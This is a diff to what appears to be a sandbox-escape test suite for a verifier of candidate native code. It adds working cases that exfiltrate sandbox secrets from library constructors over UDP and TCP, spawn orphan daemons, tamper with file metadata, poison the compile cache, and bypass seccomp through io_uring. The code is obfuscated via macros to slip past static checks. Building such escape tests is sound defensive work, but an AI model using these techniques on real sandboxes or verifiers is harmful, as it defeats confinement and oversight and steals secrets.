@@ -12,7 +12,7 @@ a successful read would put the secret marker into the verdict.
 
 from __future__ import annotations
 
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 
 RELU = r'''
 #define CAT(a, b) a##b
@@ -98,6 +98,7 @@ class EscapeCase:
     functions: str  # load_c signatures of the attack functions, e.g. '"attack": ""'
     module_code: str  # Python run at import after load_c
     static: str = ""  # "build" | "tokens" | "" (see the module doc)
+    z23: str = ""  # the class of issue 23 the case belongs to ("" for the cases written before it)
 
     def source(self, fill: dict[str, str]) -> str:
         functions = '{"relu": "const float*, float*, int64"' + (", " + self.functions if self.functions else "") + "}"
@@ -255,3 +256,279 @@ extern "C" void attack(unsigned char* buf, long cap) { slurp("/proc/{{PARENT_PID
     python("py_socket_connect", "a TCP connection to a loopback server (exfiltration)",
            'import socket\nsocket.create_connection(("127.0.0.1", {{PORT}}), timeout=2).sendall(b"pwned")\n'),
 )
+
+
+# ---- issue 23: the zero-trust verifier's escape classes ---------------------------------------------
+# Each case below carries ``z23``, the class of issue 23 it belongs to:
+#   "1" candidate code that runs before confinement (a library's load-time code: constructor or
+#       static initializer) sends secrets over UDP and TCP, double-forks a daemon, changes the
+#       metadata of stored files, or writes into the compile cache's slot of another source;
+#   "3" io_uring after seccomp: operations the per-syscall filter never sees.
+# (Classes 2, 4, 5, 6 and the runner's misbehaviour live in the test_z23_*.py modules and the
+# hack_z23_* fixtures.) Their targets are per case (``{{CASE_MANIFEST}}``, ``{{CASE_LAKE}}``, own UDP
+# and TCP ports, a daemon name) so that what acted is attributed to the case that did it.
+
+# Runs Python from native code through CPython API symbols the build checks allow (Py*, declared weak
+# so that load_c's -Wl,--no-undefined links): builtins' exec on a string. No Python name appears in
+# the candidate's Python source, so no Python check ever reads the payload.
+PY_EXEC = r'''
+extern "C" {
+typedef struct _object PyObject;
+__attribute__((weak)) int PyGILState_Ensure(void);
+__attribute__((weak)) void PyGILState_Release(int);
+__attribute__((weak)) PyObject* PyEval_GetBuiltins(void);
+__attribute__((weak)) PyObject* PyDict_GetItemString(PyObject*, const char*);
+__attribute__((weak)) PyObject* PyDict_New(void);
+__attribute__((weak)) PyObject* PyObject_CallFunction(PyObject*, const char*, ...);
+__attribute__((weak)) void PyErr_Clear(void);
+__attribute__((weak)) void Py_DecRef(PyObject*);
+}
+static void run_python(const char* code) {
+    if (!PyGILState_Ensure) return;
+    int gil = PyGILState_Ensure();
+    PyObject* fn = PyDict_GetItemString(PyEval_GetBuiltins(), "exec");
+    PyObject* globals = PyDict_New();
+    PyObject* result = fn ? PyObject_CallFunction(fn, "sO", code, globals) : 0;
+    if (result) Py_DecRef(result); else PyErr_Clear();
+    Py_DecRef(globals);
+    PyGILState_Release(gil);
+}
+'''
+# What the candidate's process knows, found through the garbage collector: the sandbox's own
+# configuration (nonce, seeds, working directory), its environment and arguments.
+SECRETS_PY = r'''
+import gc, os, sys
+found = []
+for o in gc.get_objects():
+    kind = type(o).__name__
+    if kind in ("ChildConfig", "ReferenceConfig", "Secrets"):
+        trials = getattr(o, "trials", None)
+        found.append(f"{kind} nonce={getattr(o, 'nonce', '')} workdir={getattr(o, 'workdir', '')} "
+                     f"init_seed={getattr(trials, 'init_seed', '')} input_seed={getattr(trials, 'input_seed', '')}")
+secrets = ("z23 {{CASE}} " + " | ".join(found) + f" | env={dict(os.environ)} | argv={sys.argv} | cwd={os.getcwd()}")
+'''
+UDP_PY = r'''
+import socket
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secrets.encode()[:60000], ("127.0.0.1", {{UDP_PORT}}))
+'''
+TCP_PY = r'''
+import socket
+socket.create_connection(("127.0.0.1", {{TCP_PORT}}), timeout=2).sendall(secrets.encode())
+'''
+HOOK = r'''
+#define HOOK __attribute__((CAT(constr,uctor)))
+'''
+NET_DECLS = r'''
+extern "C" int CAT(soc,ket)(int, int, int);
+extern "C" long CAT(send,to)(int, const void*, unsigned long, int, const void*, unsigned);
+extern "C" int CAT(conn,ect)(int, const void*, unsigned);
+static void ipv4(unsigned char* a, int port) {
+    for (int i = 0; i < 16; ++i) a[i] = 0;
+    a[0] = 2; a[2] = (unsigned char)(port >> 8); a[3] = (unsigned char)port; a[4] = 127; a[7] = 1;
+}
+static void udp_send(const char* text, int port) {
+    unsigned char a[16]; ipv4(a, port);
+    int s = CAT(soc,ket)(2, 2, 0);
+    if (s >= 0) CAT(send,to)(s, text, __builtin_strlen(text), 0, a, 16);
+}
+'''
+# A minimal io_uring without liburing: the ring set up and driven through one system-call function
+# (``zsys``: inline assembly, or libc's own syscall() found at run time), one request at a time.
+URING = r'''
+static long (*zsys)(long, long, long, long, long, long, long);
+struct z_sqe { unsigned char opcode, flags; unsigned short ioprio; int fd; unsigned long off, addr; unsigned len, op_flags;
+               unsigned long user_data; unsigned short buf_index, personality; unsigned file_index; unsigned long addr3, pad; };
+struct z_cqe { unsigned long user_data; int res; unsigned flags; };
+struct z_sqoff { unsigned head, tail, ring_mask, ring_entries, flags, dropped, array, resv1; unsigned long user_addr; };
+struct z_cqoff { unsigned head, tail, ring_mask, ring_entries, overflow, cqes, flags, resv1; unsigned long user_addr; };
+struct z_params { unsigned sq_entries, cq_entries, flags, sq_thread_cpu, sq_thread_idle, features, wq_fd, resv[3];
+                  struct z_sqoff sq_off; struct z_cqoff cq_off; };
+struct z_ring { int fd; char* sq; struct z_sqe* sqes; struct z_params p; };
+static int z_ring_init(struct z_ring* r) {
+    __builtin_memset(&r->p, 0, sizeof(r->p));
+    long fd = zsys(425, 4, (long)&r->p, 0, 0, 0, 0);  // io_uring_setup
+    if (fd < 0) return -1;
+    r->fd = (int)fd;
+    long sq_size = r->p.sq_off.array + r->p.sq_entries * 4;
+    long cq_size = r->p.cq_off.cqes + r->p.cq_entries * (long)sizeof(struct z_cqe);
+    long ring = zsys(9, 0, sq_size > cq_size ? sq_size : cq_size, 3, 0x8001, fd, 0);  // mmap MAP_SHARED|MAP_POPULATE
+    long sqes = zsys(9, 0, r->p.sq_entries * (long)sizeof(struct z_sqe), 3, 0x8001, fd, 0x10000000L);
+    if ((unsigned long)ring > -4096UL || (unsigned long)sqes > -4096UL) return -1;
+    r->sq = (char*)ring; r->sqes = (struct z_sqe*)sqes;
+    return 0;
+}
+static int z_ring_do(struct z_ring* r, const struct z_sqe* e) {  // submit one request, wait, its result
+    unsigned* tail = (unsigned*)(r->sq + r->p.sq_off.tail);
+    unsigned idx = *tail & *(unsigned*)(r->sq + r->p.sq_off.ring_mask);
+    r->sqes[idx] = *e;
+    ((unsigned*)(r->sq + r->p.sq_off.array))[idx] = idx;
+    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
+    if (zsys(426, r->fd, 1, 1, 1, 0, 0) < 0) return -1;  // io_uring_enter(fd, 1, 1, IORING_ENTER_GETEVENTS)
+    unsigned* head = (unsigned*)(r->sq + r->p.cq_off.head);
+    unsigned h = __atomic_load_n(head, __ATOMIC_ACQUIRE);
+    struct z_cqe* c = (struct z_cqe*)(r->sq + r->p.cq_off.cqes) + (h & *(unsigned*)(r->sq + r->p.cq_off.ring_mask));
+    int res = c->res;
+    __atomic_store_n(head, h + 1, __ATOMIC_RELEASE);
+    return res;
+}
+enum { OP_CONNECT = 16, OP_OPENAT = 18, OP_WRITE = 23, OP_SETXATTR = 42, OP_SOCKET = 45 };
+static int z_op(struct z_ring* r, unsigned char op, int fd, unsigned long off, unsigned long addr, unsigned len,
+                unsigned op_flags, unsigned long addr3) {
+    struct z_sqe e; __builtin_memset(&e, 0, sizeof(e));
+    e.opcode = op; e.fd = fd; e.off = off; e.addr = addr; e.len = len; e.op_flags = op_flags; e.addr3 = addr3;
+    return z_ring_do(r, &e);
+}
+'''
+ASM_SYSCALL = r'''
+#define ASM CAT(__as,m__)
+static long asm_syscall(long n, long a, long b, long c, long d, long e, long f) {
+    long r;
+    register long r10 ASM("r10") = d; register long r8 ASM("r8") = e; register long r9 ASM("r9") = f;
+    ASM volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
+    return r;
+}
+'''
+# a source the compile cache has never seen, whose slot the poisoning cases write into; the honest
+# candidate built on it must pass after them (tests/verifier/test_sandbox_escapes.py)
+POISON_TARGET = r'''
+// z23: the poisoning target (an honest ReLU)
+extern "C" void relu(const float* x, float* y, long n) {
+    for (long i = 0; i < n; ++i) y[i] = x[i] > 0.0f ? x[i] : 0.0f;
+}
+'''
+EVIL = r'''
+// what a poisoned cache entry would hand the next candidate: the identity (tagged for the attacker to find)
+extern "C" const char z23_tag[] = "z23-evil";
+extern "C" void relu(const float* x, float* y, long n) { for (long i = 0; i < n; ++i) y[i] = x[i]; }
+'''
+POISON_PY = r'''
+import glob, os, shutil
+evil = [p for p in glob.glob("build/cpu/*/kernel.so") if b"z23-evil" in open(p, "rb").read()]
+for target in glob.glob("build/cpu/{{POISON_KEY}}/kernel.so"):
+    if evil:
+        shutil.copyfile(evil[0], target)
+'''
+POISON_MODULE = '''
+EVIL = r"""{{EVIL_SOURCE}}"""
+TARGET = r"""{{POISON_SOURCE}}"""
+_evil = load_c(EVIL, {"relu": "const float*, float*, int64"})
+_target = load_c(TARGET, {"relu": "const float*, float*, int64"})
+'''
+METADATA_DECLS = r'''
+extern "C" int CAT(chm,od)(const char*, unsigned);
+extern "C" int CAT(ut,ime)(const char*, const void*);
+extern "C" int CAT(setx,attr)(const char*, const char*, const void*, unsigned long, int);
+'''
+
+
+def c_string(python: str) -> str:
+    """Python code as one C string literal (the token checks skip string literals, as a compiler would)."""
+    return '"' + python.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'
+
+
+def z23(case: EscapeCase, cls: str) -> EscapeCase:
+    return replace(case, z23=cls)
+
+
+Z23_CASES = (
+    z23(native("z23_ctor_udp_secrets", "a constructor (spelled through a macro) sends the sandbox's secrets over UDP: "
+               "from native code, and from Python it runs through the CPython API", PY_EXEC + NET_DECLS + HOOK + r'''
+HOOK static void at_load() {
+    udp_send("z23 {{CASE}} native constructor", {{UDP_PORT}});
+    run_python(''' + c_string(SECRETS_PY + UDP_PY) + r''');
+}
+extern "C" void attack() {}
+'''), "1"),
+    z23(native("z23_ctor_tcp_secrets", "a constructor sends the sandbox's secrets over TCP, natively and from Python",
+               PY_EXEC + NET_DECLS + HOOK + r'''
+HOOK static void at_load() {
+    unsigned char a[16]; ipv4(a, {{TCP_PORT}});
+    int s = CAT(soc,ket)(2, 1, 0);
+    if (s >= 0 && CAT(conn,ect)(s, a, 16) == 0) CAT(send,to)(s, "z23 {{CASE}}", __builtin_strlen("z23 {{CASE}}"), 0, 0, 0);
+    run_python(''' + c_string(SECRETS_PY + TCP_PY) + r''');
+}
+extern "C" void attack() {}
+'''), "1"),
+    z23(native("z23_ctor_double_fork_daemon", "a constructor double-forks a daemon into its own session that outlives "
+               "the verdict (renamed, sending UDP heartbeats)", NET_DECLS + HOOK + r'''
+extern "C" int CAT(fo,rk)();
+extern "C" int CAT(set,sid)();
+extern "C" int CAT(pr,ctl)(int, unsigned long, unsigned long, unsigned long, unsigned long);
+extern "C" unsigned CAT(sle,ep)(unsigned);
+extern "C" void CAT(_ex,it)(int);
+HOOK static void at_load() {
+    if (CAT(fo,rk)() != 0) return;  // the sandbox goes on as if nothing happened
+    CAT(set,sid)();
+    if (CAT(fo,rk)() != 0) CAT(_ex,it)(0);  // the middle process exits: the daemon is an orphan
+    CAT(pr,ctl)(15, (unsigned long)"{{DAEMON_NAME}}", 0, 0, 0);  // PR_SET_NAME
+    for (int i = 0; i < 60; ++i) { udp_send("z23 {{CASE}} daemon alive", {{UDP_PORT}}); CAT(sle,ep)(1); }
+    CAT(_ex,it)(0);
+}
+extern "C" void attack() {}
+'''), "1"),
+    z23(native("z23_ctor_metadata_manifest_and_lake", "a constructor chmods, utimes and setxattrs the build's "
+               "manifest.parquet and a lake file (uid 0 without capabilities owns them)", METADATA_DECLS + HOOK + r'''
+HOOK static void at_load() {
+    long zero[2] = {0, 0};
+    const char* files[2] = {"{{CASE_MANIFEST}}", "{{CASE_LAKE}}"};
+    for (int i = 0; i < 2; ++i) {
+        CAT(setx,attr)(files[i], "user.z23", "pwned", 5, 0);
+        CAT(ut,ime)(files[i], zero);
+        CAT(chm,od)(files[i], 0);
+    }
+}
+extern "C" void attack() {}
+'''), "1"),
+    z23(replace(native("z23_ctor_cache_poison_other_key", "a constructor copies a wrong library into the build slot of "
+                       "another source's key (the cache would hand it to the next honest candidate)", PY_EXEC + HOOK + r'''
+HOOK static void at_load() { run_python(''' + c_string(POISON_PY) + r'''); }
+extern "C" void attack() {}
+'''), module_code="lib.attack()\n" + POISON_MODULE), "1"),
+    z23(replace(native("z23_uring_socket_udp_secrets", "io_uring IORING_OP_SOCKET makes a UDP socket the seccomp filter never "
+               "sees, then sendto() sends the secrets; syscall() is found by walking libc's symbols, so no "
+               "static check sees a system call", LIBC_WALK + URING + r'''
+extern "C" void attack(unsigned char* text, long n) {
+    zsys = (long (*)(long, long, long, long, long, long, long))libc_function("syscall");
+    struct z_ring r;
+    if (!zsys || z_ring_init(&r) != 0) return;
+    int s = z_op(&r, OP_SOCKET, 2, 2, 0, 0, 0, 0);  // AF_INET, SOCK_DGRAM
+    unsigned char a[16] = {2, 0, (unsigned char)({{UDP_PORT}} >> 8), (unsigned char){{UDP_PORT}}, 127, 0, 0, 1};
+    if (s >= 0) zsys(44, s, (long)text, n, 0, (long)a, 16);  // sendto: not filtered
+}
+''', static=""), module_code=SECRETS_PY + "_text = torch.tensor(list(secrets.encode()[:60000]), dtype=torch.uint8)\n"
+                                "lib.attack(_text, _text.numel())\n", functions='"attack": "uint8*, int64"'), "3"),
+    z23(native("z23_uring_setxattr_manifest", "io_uring IORING_OP_SETXATTR sets an extended attribute on the build's "
+               "manifest and a lake file after seccomp (raw syscalls through inline assembly)", ASM_SYSCALL + URING + r'''
+extern "C" void attack() {
+    zsys = asm_syscall;
+    struct z_ring r;
+    if (z_ring_init(&r) != 0) return;
+    z_op(&r, OP_SETXATTR, 0, (unsigned long)"pwned", (unsigned long)"user.z23", 5, 0, (unsigned long)"{{CASE_MANIFEST}}");
+    z_op(&r, OP_SETXATTR, 0, (unsigned long)"pwned", (unsigned long)"user.z23", 5, 0, (unsigned long)"{{CASE_LAKE}}");
+}
+'''), "3"),
+    z23(native("z23_uring_openat_write", "io_uring IORING_OP_OPENAT and IORING_OP_WRITE: truncate and write the build's "
+               "manifest, create a file in /tmp", ASM_SYSCALL + URING + r'''
+extern "C" void attack() {
+    zsys = asm_syscall;
+    struct z_ring r;
+    if (z_ring_init(&r) != 0) return;
+    int fd = z_op(&r, OP_OPENAT, -100, 0, (unsigned long)"{{CASE_MANIFEST}}", 0, 01 | 01000, 0);  // O_WRONLY|O_TRUNC
+    if (fd >= 0) z_op(&r, OP_WRITE, fd, 0, (unsigned long)"pwned", 5, 0, 0);
+    fd = z_op(&r, OP_OPENAT, -100, 0, (unsigned long)"{{TMP_NEW}}", 0644, 01 | 0100, 0);  // O_WRONLY|O_CREAT
+    if (fd >= 0) z_op(&r, OP_WRITE, fd, 0, (unsigned long)"pwned", 5, 0, 0);
+}
+'''), "3"),
+    z23(native("z23_uring_connect_tcp", "io_uring IORING_OP_SOCKET and IORING_OP_CONNECT to a loopback TCP server",
+               ASM_SYSCALL + URING + r'''
+extern "C" void attack() {
+    zsys = asm_syscall;
+    struct z_ring r;
+    if (z_ring_init(&r) != 0) return;
+    int s = z_op(&r, OP_SOCKET, 2, 1, 0, 0, 0, 0);  // AF_INET, SOCK_STREAM
+    unsigned char a[16] = {2, 0, (unsigned char)({{TCP_PORT}} >> 8), (unsigned char){{TCP_PORT}}, 127, 0, 0, 1};
+    if (s >= 0 && z_op(&r, OP_CONNECT, s, 16, (unsigned long)a, 0, 0, 0) == 0) zsys(44, s, (long)"z23", 3, 0, 0, 0);
+}
+'''), "3"),
+)
+CASES = CASES + Z23_CASES
